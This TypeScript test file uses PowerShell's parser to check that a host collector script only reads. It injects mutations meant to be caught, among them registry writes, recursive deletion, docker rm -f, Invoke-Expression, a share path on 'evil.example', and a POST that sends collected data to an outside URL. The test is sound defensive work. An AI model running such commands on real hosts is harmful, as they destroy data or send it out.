import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { isReadingCommandName, notReadOnly } from '../../src/core/knowledge/read-only.js';
import { PWSH, SKIP_NOTE, runPwshScript } from './pwsh.js';

// The host collector (src/platform/collector/collect.ps1) runs on the user's host with one confirmation, as "read-only".
// It is our own script with functions and script blocks, which the read-only rule of the knowledge's fixes does not
// take; here PowerShell's own parser lists everything it runs, and each piece is held to that rule's parts: commands
// only reading ones (by name) or the script's own functions, programs only through its Read-Native with arguments the
// rule takes, methods from a short list, no file redirection, no variable outside the script's own.

const COLLECTOR = path.resolve(import.meta.dirname, '../../src/platform/collector/collect.ps1');

// One walk of each parsed text, its nodes sorted by type as FindAll lists them (in document order), and plain loops
// (a search per node type, each calling a script block on every node, and ForEach-Object pipelines took most of this
// pwsh's time).
const SCRIPT = String.raw`
param([string]$In, [string]$Out)
$texts = Get-Content -Raw -LiteralPath $In | ConvertFrom-Json
$L = 'System.Management.Automation.Language'
$any = [Func[System.Management.Automation.Language.Ast, bool]] { $true }
$isWord = [Func[System.Management.Automation.Language.Ast, bool]] { $args[0] -is [System.Management.Automation.Language.StringConstantExpressionAst] -or $args[0] -is [System.Management.Automation.Language.VariableExpressionAst] }
$result = foreach ($t in $texts) {
  $tokens = $null; $errors = $null
  $ast = [System.Management.Automation.Language.Parser]::ParseInput($t, [ref]$tokens, [ref]$errors)
  $functions = [System.Collections.Generic.List[object]]::new()
  $commands = [System.Collections.Generic.List[object]]::new()
  $members = [System.Collections.Generic.List[object]]::new()
  $files = [System.Collections.Generic.List[object]]::new()
  $assigned = [System.Collections.Generic.List[object]]::new()
  foreach ($node in $ast.FindAll($any, $true)) {
    switch ($node.GetType().Name) {
      'FunctionDefinitionAst' { $functions.Add($node.Name) }
      'InvokeMemberExpressionAst' { $members.Add(($(if ($node.Static) { $node.Expression.Extent.Text + '::' } else { '.' })) + $node.Member.Extent.Text) }
      'FileRedirectionAst' { $files.Add($node.Extent.Text) }
      'AssignmentStatementAst' { $assigned.Add($node.Left.Extent.Text) }
      'CommandAst' {
        $elements = $node.CommandElements
        $first = $elements[0]
        $name = if ($first -is [System.Management.Automation.Language.StringConstantExpressionAst]) { $first.Value } else { 'DYNAMIC ' + $first.Extent.Text }
        $native = $null
        $named = $null
        for ($i = 1; $i -lt $elements.Count - 1; $i++) {
          $e = $elements[$i]
          if ($e -is [System.Management.Automation.Language.CommandParameterAst] -and $e.ParameterName -eq 'Name') { $named = $elements[$i + 1].Extent.Text }
        }
        if ($name -eq 'Read-Native') {
          $file = $elements[1].Extent.Text
          $words = @(foreach ($w in $elements[2].FindAll($isWord, $true)) {
            if ($w -is [System.Management.Automation.Language.VariableExpressionAst]) { '$' + $w.VariablePath.UserPath } else { $w.Value }
          })
          $native = [pscustomobject]@{ file = $file; words = $words }
        }
        # The command as the rule reads it: its name, its parameters, literal words as written, a script block empty (the
        # commands in it are listed on their own), anything else a plain word.
        $simple = @(foreach ($e in $elements) {
          if ($e -is [System.Management.Automation.Language.CommandParameterAst]) { '-' + $e.ParameterName + $(if ($e.Argument) { ':x0' } else { '' }) }
          elseif ($e -is [System.Management.Automation.Language.StringConstantExpressionAst]) { $e.Extent.Text }
          elseif ($e -is [System.Management.Automation.Language.ScriptBlockExpressionAst]) { '{ }' }
          else { 'x0' }
        }) -join ' '
        $commands.Add([pscustomobject]@{
          simple = $simple
          name = $name
          operator = [string]$node.InvocationOperator
          parameters = @(foreach ($e in $elements) { if ($e -is [System.Management.Automation.Language.CommandParameterAst]) { $e.ParameterName } })
          native = $native
          named = $named
        })
      }
    }
  }
  [pscustomobject]@{ errors = @(foreach ($e in $errors) { $e.Message }); functions = $functions.ToArray(); commands = $commands.ToArray(); members = $members.ToArray(); files = $files.ToArray(); assigned = $assigned.ToArray() }
}
ConvertTo-Json -InputObject @($result) -Depth 6 | Set-Content -LiteralPath $Out -Encoding utf8
`;

interface Parts {
  errors: string[];
  functions: string[];
  commands: { simple: string; name: string; operator: string; parameters: string[]; native: { file: string; words: string[] } | null; named: string | null }[];
  members: string[];
  files: string[];
  assigned: string[];
}

/** Methods the collector calls: who this session runs as, a dictionary's key, the time, and [regex]::Replace for its \uXXXX escapes. */
const METHODS = new Set(['[Security.Principal.WindowsPrincipal]::new', '[Security.Principal.WindowsIdentity]::GetCurrent', '.IsInRole', '.Contains', '.ToUniversalTime', '.ToString', '[regex]::Replace', '[Environment]::GetFolderPath', '.TrimEnd', '.Replace', '.StartsWith']);
/** Parameters that write: a variable named by its value (any scope, `env:` too), a file. */
const WRITING_PARAMETERS = /^(?:outvariable|errorvariable|warningvariable|informationvariable|pipelinevariable|ov|ev|wv|iv|pv|outfile|filepath)$/i;
/** The two calls of a script block or program found at run time: Read-Fact's `& $Script` and Read-Native's `& $program`. */
const DYNAMIC = ['DYNAMIC $Script', 'DYNAMIC $program'];

/**
 * The environment variables the collector sets, for its own process only: where PowerShell loads modules from (its own
 * folder alone, so that a module in the user's folder never runs in an elevated check).
 */
const OWN_ENVIRONMENT = new Set(['$env:psmodulepath']);

/** What in a parsed script is not known to read, as one line each (empty when nothing). */
function notReading(p: Parts): string[] {
  const own = new Set(p.functions.map((f) => f.toLowerCase()));
  const found: string[] = [...p.errors.map((e) => `parse: ${e}`), ...p.files.map((f) => `redirection to a file: ${f}`)];
  const dynamic = p.commands.filter((c) => c.name.startsWith('DYNAMIC '));
  if (JSON.stringify(dynamic.map((c) => `${c.operator}:${c.name}`).sort()) !== JSON.stringify(DYNAMIC.map((d) => `Ampersand:${d}`).sort())) found.push(`calls found at run time: ${dynamic.map((c) => c.name).join(', ')}`);
  for (const c of p.commands) {
    if (c.name.startsWith('DYNAMIC ')) continue;
    if (c.operator === 'Dot') found.push(`dot-sourced: ${c.name}`);
    if (c.name === 'Get-Command') {
      // Not in the rule's list (a path there, \\host\share\x.ps1, opens a share): here it only asks whether a cmdlet
      // or a program is there, by a name written in the script or Read-Native's (a literal at every call, checked below).
      if (!c.named || !/^(?:[\w-]+|\$File)$/.test(c.named)) found.push(`Get-Command -Name ${c.named ?? '(none)'}`);
    } else if (!own.has(c.name.toLowerCase())) {
      if (!isReadingCommandName(c.name)) found.push(`command: ${c.name}`);
      // Its parameters as the rule judges a fix's (a web request that posts, a cmdlet's parameter that writes a file).
      else if (notReadOnly(c.simple, 'powershell')) found.push(`command: ${c.simple} (${notReadOnly(c.simple, 'powershell')!.why})`);
    }
    for (const param of c.parameters) if (WRITING_PARAMETERS.test(param)) found.push(`parameter: ${c.name} -${param}`);
    if (c.native) {
      // The words Read-Native passes, as the program gets them; the image ids docker image inspect is given are ids.
      const file = c.native.file.replace(/^'|'$/g, '');
      const line = [file, ...c.native.words.map((w) => (w === '$ids' ? `sha256:${'0'.repeat(64)}` : /^[\w.:={}/ -]+$/.test(w) && !w.startsWith('$') ? (/\s|\{/.test(w) ? `'${w}'` : w) : `<${w}>`))].join(' ');
      const why = notReadOnly(line, 'powershell');
      if (why) found.push(`program: ${line} (${why.why})`);
    }
  }
  for (const m of p.members) if (!METHODS.has(m)) found.push(`method: ${m}`);
  for (const a of p.assigned) if (!OWN_ENVIRONMENT.has(a.toLowerCase()) && !/^\$(?!(?:env|global|script|using|variable|function):)\w+(?:\[(?:\$\w+|'\w+')\])?$/i.test(a)) found.push(`assignment: ${a}`);
  return found;
}

describe.skipIf(!PWSH)(`the host collector only reads, as PowerShell's parser reads it${SKIP_NOTE}`, () => {
  it('runs only reading commands and its own functions, programs in reading modes, known methods, and writes no file or outside variable; each kind of change is found', () => {
    const collector = readFileSync(COLLECTOR, 'utf8');
    // Each change a future edit could bring, put into the real script: every one must be found.
    const read = "Read-Fact 'ver' 'cmd /c ver' { Read-Native 'cmd' @('/c', 'ver') }";
    expect(collector).toContain(read);
    const changes = [
      "Set-ItemProperty -Path 'HKLM:\\SOFTWARE\\x' -Name y -Value 1",
      "Remove-Item -LiteralPath 'C:\\ProgramData\\docker\\x' -Recurse",
      "Get-Service hns > C:\\services.txt",
      "$env:PATH = 'C:\\x'",
      "[IO.File]::WriteAllText('C:\\x', 'y')",
      "Read-Native 'docker' @('rm', '-f', 'web')",
      "Read-Native 'netsh' @('int', 'ipv4', 'add', 'excludedportrange', 'protocol=tcp', 'startport=80', 'numberofports=1')",
      "Get-Service hns -OutVariable global:x",
      ". $Script",
      "& (Get-Command whoami)",
      "Invoke-Expression 'Restart-Service hns'",
      "Get-Command -Name '\\\\evil.example\\s\\x.ps1' -Syntax",
      // Found by a reviewer: reading cmdlets with parameters that send, write or install.
      "Invoke-RestMethod -Uri 'https://example.org/x' -Method Post -Body ($reads | ConvertTo-Json)",
      "Get-WindowsFeature -Name Containers -LogPath 'C:\\x.log'",
      "Get-PackageProvider -Name NuGet -ForceBootstrap",
    ];
    const texts = [collector, ...changes.map((c) => collector.replace(read, `${read}\n${c}`))];
    const r = runPwshScript<Parts[]>(SCRIPT, texts);
    expect(r.status, r.stderr).toBe(0);
    const parsed = r.output!;
    expect(parsed).toHaveLength(texts.length);
    const [real, ...changed] = parsed;
    // The collector as it is: what it runs was found (not vacuous), and all of it reads.
    expect(real!.commands.filter((c) => c.native).length).toBeGreaterThanOrEqual(8);
    expect(real!.commands.map((c) => c.name)).toEqual(expect.arrayContaining(['Get-CimInstance', 'Get-HnsNetwork', 'ConvertTo-Json']));
    expect(notReading(real!)).toEqual([]);
    changed.forEach((p, i) => expect(notReading(p), changes[i]).not.toEqual([]));
  }, 120_000);
});
